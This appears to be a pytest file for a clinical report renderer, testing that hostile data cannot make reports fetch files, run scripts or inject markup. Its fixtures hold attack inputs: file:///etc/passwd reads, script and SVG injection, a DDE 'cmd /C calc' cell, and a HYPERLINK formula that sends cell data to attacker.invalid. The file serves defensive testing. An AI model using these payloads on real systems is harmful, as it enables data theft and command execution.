"""Hostile data cannot make a report fetch anything, run anything or inject markup.

Three defences, each tested with hostile text:

1. the WeasyPrint URL fetcher serves only the package's template assets;
2. Jinja autoescape is on everywhere; the only unescaped markup is checked package SVG;
3. CSV cells that a spreadsheet would execute are neutralised; RTF control characters escaped.
"""

from __future__ import annotations

import io
import re

import pandas as pd
import pytest
from test_render_fixtures import hostile_soc_table, long_listing

from osteo_stats.render.assets import AssetRefused, TemplateAssetFetcher, templates_dir
from osteo_stats.render.csv_export import neutralise_cell, tlf_to_csv
from osteo_stats.render.html import render_html, tlf_view
from osteo_stats.render.pdf import html_to_pdf
from osteo_stats.render.rtf import rtf_escape, tlf_to_rtf
from osteo_stats.render.svg import UnsafeSVGError, check_svg, inline_svg

# --- 1. URL fetcher --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://attacker.invalid/evil.css",
        "https://attacker.invalid/x.png",
        "ftp://attacker.invalid/x",
        "data:text/css,body{display:none}",
        "file://attacker.invalid/share/x.css",
    ],
)
def test_fetcher_refuses_everything_but_template_assets(url):
    fetcher = TemplateAssetFetcher()
    with pytest.raises(AssetRefused, match="refused to fetch"):
        fetcher.fetch(url)
    assert fetcher.refused == [url]


def test_fetcher_refuses_path_traversal_and_non_assets(tmp_path):
    root = templates_dir().resolve()
    fetcher = TemplateAssetFetcher()
    escape = root.as_uri() + "/../../../../etc/passwd"
    with pytest.raises(AssetRefused, match="outside the report templates"):
        fetcher.fetch(escape)
    with pytest.raises(AssetRefused, match="not a template asset"):
        fetcher.fetch((root / "base.html.j2").as_uri())  # a template, not an asset type
    outside = tmp_path / "x.css"
    outside.write_text("body { color: red }")
    with pytest.raises(AssetRefused, match="outside the report templates"):
        fetcher.fetch(outside.as_uri())


def test_fetcher_serves_the_report_stylesheet():
    fetcher = TemplateAssetFetcher()
    response = fetcher.fetch((templates_dir() / "report.css").as_uri())
    assert response.content_type == "text/css"
    assert b"@page" in response.read()


def test_pdf_render_never_fetches_smuggled_references():
    """Raw markup that bypassed escaping (defence in depth): WeasyPrint asks, fetcher refuses."""
    html = (
        "<html><head><link rel='stylesheet' href='http://attacker.invalid/a.css'>"
        "<style>@import url('file:///etc/passwd'); "
        "p { background: url(http://attacker.invalid/bg.png) }</style></head><body>"
        "<p>x</p><img src='file:///etc/passwd'><img src='http://attacker.invalid/x.png'>"
        "<img src='../../../../etc/passwd'></body></html>"
    )
    result = html_to_pdf(html)
    refused = set(result.refused_urls)
    assert "file:///etc/passwd" in refused
    assert "http://attacker.invalid/a.css" in refused
    assert "http://attacker.invalid/x.png" in refused
    assert "http://attacker.invalid/bg.png" in refused
    # The relative '../../../../etc/passwd' resolves against the templates dir to /etc/passwd.
    assert all(not url.startswith(templates_dir().resolve().as_uri()) for url in refused)
    assert b"root:" not in result.pdf


# --- 2. HTML escaping and SVG -----------------------------------------------------------------

_SAFE_TAGS = re.compile(
    r"<(/?)(html|head|meta|title|style|body|section|header|footer|h1|h2|p|span|table|colgroup|"
    r"col|thead|tbody|tr|th|td|br|figure|svg|g|path|defs|use|clipPath|rect|nav|ol|ul|li|a|dl|"
    r"dt|dd|div|code|polyline|line|text|circle|ellipse|polygon)\b"
)


def _render_tlfs(*outputs):
    views = [tlf_view(output.tlf) for output in outputs]
    template = '{% import "macros.html.j2" as m %}{% for t in views %}{{ m.tlf(t) }}{% endfor %}'
    from osteo_stats.render.html import template_environment

    return template_environment().from_string(template).render(views=views)


def test_hostile_text_is_escaped_in_html():
    html = _render_tlfs(hostile_soc_table(), long_listing(20))
    assert "<script" not in html
    assert "<img" not in html
    assert "<link" not in html
    assert "<style" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html
    # Every tag in the output is one the templates write themselves.
    for match in re.finditer(r"<(/?)([A-Za-z][A-Za-z0-9]*)", html):
        assert _SAFE_TAGS.match(match[0] + " "), match[0]


def test_autoescape_is_on_for_every_template():
    from osteo_stats.render.html import template_environment

    env = template_environment()
    for name in env.list_templates(extensions=["j2"]):
        assert env.autoescape is True or env.autoescape(name), name
    rendered = env.from_string("{{ x }}").render(x="<b>")
    assert rendered == "&lt;b&gt;"


def test_only_svg_is_marked_safe_in_templates():
    for path in templates_dir().glob("*.j2"):
        text = path.read_text()
        assert "|safe" not in text.replace(" ", ""), path.name
        assert "autoescape false" not in text, path.name


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="file:///etc/passwd"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url(http://x.invalid/a)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
        "<html><body>not svg</body></html>",
        "<svg",
    ],
)
def test_unsafe_svg_is_rejected(svg):
    with pytest.raises(UnsafeSVGError):
        check_svg(svg)


def test_inline_svg_prefixes_ids_and_drops_prologue():
    svg = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg>\n<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="10pt" height="5pt" viewBox="0 0 10 5">'
        '<defs><path id="g1" d="M0 0"/><clipPath id="c1"><rect/></clipPath></defs>'
        '<use xlink:href="#g1" clip-path="url(#c1)"/></svg>'
    )
    out = str(inline_svg(svg, "fig-a-"))
    assert out.startswith("<svg") and "<?xml" not in out and "DOCTYPE" not in out
    assert 'id="fig-a-g1"' in out and 'href="#fig-a-g1"' in out and "url(#fig-a-c1)" in out
    assert 'width="10pt"' not in out and 'viewBox="0 0 10 5"' in out


def test_full_template_renders_hostile_footnote_escaped():
    from test_render_fixtures import synthetic_ad

    from osteo_stats.render.context import build_report_context
    from osteo_stats.render.report import render_report_html

    context = build_report_context(synthetic_ad(), ["osteo-stats", "<script>x</script>"], 1)
    html = render_report_html("dmc", context, [hostile_soc_table()])
    assert "<script" not in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html  # the command line, escaped
    assert render_html  # imported for the API check above


# --- 3. CSV and RTF ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("-", "'-"),
        ("-12.5", "-12.5"),  # a plain negative number stays a number
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-1.2 (-3.4, 0.5)", "-1.2 (-3.4, 0.5)"),  # estimate with CI
        ("-3 (7.0)", "-3 (7.0)"),
        ("-2+3", "'-2+3"),  # arithmetic is a formula, not a number
        ("Nausea", "Nausea"),
        ("12 (40.0)", "12 (40.0)"),
        ("", ""),
        ("    =1+1", "'    =1+1"),  # indentation does not hide a formula
        ("  -12.5", "  -12.5"),
    ],
)
def test_csv_cell_neutralisation(cell, expected):
    assert neutralise_cell(cell) == expected


def test_tlf_csv_neutralises_hostile_cells_and_keeps_numbers():
    import csv
    import io

    text = tlf_to_csv(hostile_soc_table().tlf)
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert "-12.5" in cells and "-1.2 (-3.4, 0.5)" in cells
    assert '\'    =HYPERLINK("http://attacker.invalid/?"&A1,"click")' in cells
    assert "'    \tTabbed" in cells
    assert '    <script>alert("x")</script>' in cells  # CSV is data: markup stays as text


def test_rtf_escape():
    assert rtf_escape("a{b}\\c") == "a\\{b\\}\\\\c"
    assert rtf_escape("é≥") == "\\u233?\\u8805?"
    assert rtf_escape("😀") == "\\u-10179?\\u-8704?"
    assert rtf_escape("x_y^2 >= 3") == "x_y^2 >= 3"  # no subscript/superscript conversion


def test_rtf_output_is_seven_bit_and_carries_no_injected_groups():
    text = tlf_to_rtf(hostile_soc_table().tlf)
    assert text.startswith("{\\rtf1")
    assert all(ord(char) < 128 for char in text)
    assert "{\\rtf1 injected}" not in text
    assert "\\{\\\\rtf1 injected\\} \\\\par" in text
    assert text.count("{") - text.count("\\{") == text.count("}") - text.count("\\}")
    for hostile in ("Table 14.3.2", "Safety analysis set (N = 30)", "Source: osteo"):
        assert hostile in text
    assert "osteo\\sub" not in text  # rtflite's '_' -> subscript conversion is off


# --- 4. Bidi and control characters are shown, in every format (issue 24) -----------------------

#: A verbatim term as a hostile or careless source holds it: a right-to-left override that makes
#: "tired gnp.exe" read as "tired exe.png", an ESC sequence, a zero-width space and a pop.
_BIDI = "tired\u202egnp.exe\u202c x\x1b[31my\u200bz"
_FORMAT_CHARS = ("\u202e", "\u202c", "\u200b", "\x1b")
_SHOWN = ("<U+202E>", "<U+202C>", "<U+200B>", "\u241b")


def _bidi_listing():
    from test_render_fixtures import _tlf

    from osteo_stats.tlf.ard import ARDBuilder
    from osteo_stats.tlf.model import TLFOutput

    body = pd.DataFrame({"Patient": ["PROMIS-001"], "Verbatim term": [_BIDI]})
    tlf = _tlf(
        "Listing",
        "16.2.7.1",
        f"Adverse events: {_BIDI}",
        "Safety analysis set (N = 3)",
        ["SAF-AE-01"],
        body=body,
        footnotes=(f"Recorded as {_BIDI}",),
    )
    return TLFOutput(tlf, ARDBuilder("SAF-AE-01", "Listing 16.2.7.1", "SAF").build())


def test_bidi_and_control_characters_are_shown_in_html():
    html = _render_tlfs(_bidi_listing())
    assert not any(char in html for char in _FORMAT_CHARS)
    for shown in _SHOWN:
        assert html.count(shown.replace("<", "&lt;").replace(">", "&gt;")) == 3, shown


def test_bidi_and_control_characters_are_shown_in_pdf():
    from pypdf import PdfReader

    pdf = html_to_pdf(f"<html><body>{_render_tlfs(_bidi_listing())}</body></html>").pdf
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    text = text.replace("\x00", "")  # pypdf reads this font's text as 2-byte codes
    assert "\u202e" not in text and "\u202c" not in text
    assert text.count("<U+202E>") == 3 and text.count("<U+202C>") == 3


def test_bidi_and_control_characters_are_shown_in_rtf():
    text = tlf_to_rtf(_bidi_listing().tlf)
    assert "\\u8238?" not in text and "\\u8236?" not in text  # U+202E, U+202C as RTF
    assert "\\u8203?" not in text  # U+200B
    assert text.count("<U+202E>") == 3 and text.count("<U+200B>") == 3
    assert text.count("\\u9243?") == 3  # ESC as its control picture, U+241B


def test_bidi_and_control_characters_are_shown_in_csv():
    import csv

    rows = list(csv.reader(io.StringIO(tlf_to_csv(_bidi_listing().tlf))))
    cell = "tired<U+202E>gnp.exe<U+202C> x\u241b[31my<U+200B>z"
    assert cell in [value for row in rows for value in row]
    assert not any(char in "".join(map("".join, rows)) for char in _FORMAT_CHARS)


def test_joiners_that_shape_letters_are_kept():
    from osteo_stats.safe_csv import show_invisible

    persian = "می\u200cخواهم"  # ZWNJ inside a Persian word
    assert show_invisible(persian) == persian
    assert show_invisible("a\u200db") == "a\u200db"
    assert show_invisible("a\u2066b\u2069\u00ad") == "a<U+2066>b<U+2069><U+00AD>"
